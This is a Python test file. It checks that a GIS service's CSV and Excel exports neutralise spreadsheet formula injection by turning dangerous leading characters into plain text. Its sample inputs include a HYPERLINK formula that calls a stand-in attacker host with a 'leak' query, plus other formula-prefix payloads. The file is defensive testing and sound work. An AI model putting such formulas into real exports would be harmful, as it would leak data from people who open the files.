"""Spreadsheet exports never carry a live formula (CSV/formula injection), whatever text a layer holds."""

import io

import openpyxl
import pandas as pd

from gis_service.export import csv_bytes, xlsx_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?leak","打开")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "马头村", None]


def test_csv_and_xlsx_keep_hostile_text_as_text():
    table = pd.DataFrame({"村名": HOSTILE, "距离（米）": [-12.5, 1, 2, 3, 4, 5, 6]})
    rows = pd.read_csv(io.BytesIO(csv_bytes(table)), encoding="utf-8-sig", keep_default_na=False)
    for text, cell in zip(HOSTILE, rows["村名"]):
        if text is None:
            assert cell == ""
        elif text[0] in "=+-@\t":
            assert cell == "'" + text
        else:
            assert cell == text
    assert rows["距离（米）"].iloc[0] == -12.5  # numbers stay numbers
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table, "清单"))).active
    cells = [sheet.cell(row=i + 2, column=1) for i in range(len(HOSTILE))]
    assert all(c.data_type != "f" for c in cells)
    assert cells[0].value == "'" + HOSTILE[0] and cells[5].value == "马头村"
    assert sheet.cell(row=2, column=2).value == -12.5 and sheet.cell(row=1, column=1).value == "村名"
